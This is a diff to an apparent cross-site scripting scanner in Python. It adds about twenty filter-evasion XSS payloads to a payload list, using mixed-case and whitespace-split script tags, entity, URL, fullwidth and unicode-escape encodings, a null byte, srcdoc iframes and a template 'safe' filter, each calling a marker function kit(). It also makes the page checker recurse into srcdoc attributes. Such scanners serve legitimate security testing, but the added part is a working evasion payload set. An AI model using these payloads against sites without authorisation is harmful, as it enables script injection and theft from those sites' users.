@@ -25,6 +25,27 @@ PAYLOADS = [
     "x onfocus=kit() autofocus",
     "<a href=javascript:kit()>x</a>",
     "--><svg onload=kit()>",
+    # For pages that look for some tags, names and letters, or that decode after they have escaped.
+    "<sCript\n>kit()</scRipt\t>",
+    "<img\nsrc=x\nonerror\n=\nkit()//",
+    "<details open ontoggle=kit()>",
+    "<iframe srcdoc='<svg onload=kit()>'>",
+    "<iframe src=javascript:kit()>",
+    "<form action=' java\tscript:kit()'><button>x",
+    "<video><source onerror=kit()>",
+    "\\\"><svg onload=kit()>",
+    "\\'><svg onload=kit()>",
+    "x\\\" onfocus=kit() autofocus y=\\\"",
+    "`onfocus=kit() autofocus",
+    "&lt;svg onload=kit()&gt;",
+    "&quot; onfocus=kit() autofocus x=&quot;",
+    "&#39; onfocus=kit() autofocus x=&#39;",
+    "%3Csvg onload=kit()%3E",
+    "\uff1csvg onload=kit()\uff1e",
+    "\uff02 onfocus=kit() autofocus x=\uff02",
+    "\\u003csvg onload=kit()\\u003e",
+    "<\0script>kit()</script>",
+    "{{ '<svg onload=kit()>' | safe }}",
 ]
 
 
@@ -69,6 +90,8 @@ class Page(HTMLParser):
                 address = "".join(value.split()).lower()
                 if mark in value and name.startswith("on"):
                     found.append(f"{tag} {name}: {value}")
+                elif name == "srcdoc":
+                    found.extend(Page(value).active(mark))
                 elif mark in unquote(value) and address.startswith(("javascript:", "data:text/html", "vbscript:")):
                     found.append(f"{tag} {name}: {value}")
         return found
